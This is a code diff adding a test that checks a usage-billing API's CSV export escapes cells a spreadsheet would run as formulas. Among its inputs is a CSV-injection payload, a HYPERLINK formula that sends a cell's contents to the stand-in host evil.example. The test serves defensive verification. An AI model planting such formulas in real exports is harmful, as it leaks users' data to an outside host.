@@ -235,3 +235,36 @@ def test_open_months_and_unknown_servers_answer_404(client: TestClient,
     assert r.status_code == 404 and r.json()["code"] == "server_not_found"
     assert client.post("/v1/usage/periods/2025-01/close",
                        headers=reader.headers).status_code == 403
+
+
+# --- output safety ---
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(
+    client: TestClient, admin: dict[str, str]
+) -> None:
+    # OWASP CSV injection: a text cell starting with = + - @ tab or CR gets a leading single
+    # quote, so a spreadsheet shows it as text; numbers (a negative amount too) stay numbers.
+    member = make_account(client, admin, "member")
+    reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"refund")', "+1+1", "@SUM(1)",
+               "\tcredit", "\rcredit", "-2-3", "plain credit"]
+    for reason in reasons:
+        r = client.post("/v1/usage/adjustments", headers=admin, json={
+            "project_id": member.project_id, "server_id": "-1-1", "amount": "-2.5",
+            "reason": reason})
+        assert r.status_code == 201, r.text
+        assert r.json()["reason"] == reason  # stored and shown in JSON as given
+    now = utcnow()
+    window = {"start": datetime(now.year, now.month, 1, tzinfo=UTC).isoformat(),
+              "end": (now + timedelta(days=1)).isoformat()}
+    r = client.get("/v1/usage", params=window,
+                   headers={**member.headers, "Accept": "text/csv"})
+    assert r.status_code == 200, r.text
+    rows = [row for row in csv.DictReader(io.StringIO(r.text, newline=""))
+            if row["line"] == "adjustment"]
+    assert sorted(row["reason"] for row in rows) == sorted(
+        ["'" + reason for reason in reasons[:-1]] + ["plain credit"])
+    assert {row["server_id"] for row in rows} == {"'-1-1"}
+    assert {row["cost"] for row in rows} == {"-2.5"}
+    [project] = [row for row in csv.DictReader(io.StringIO(r.text, newline=""))
+                 if row["line"] == "project"]
+    assert project["cost"] == "-17.5"
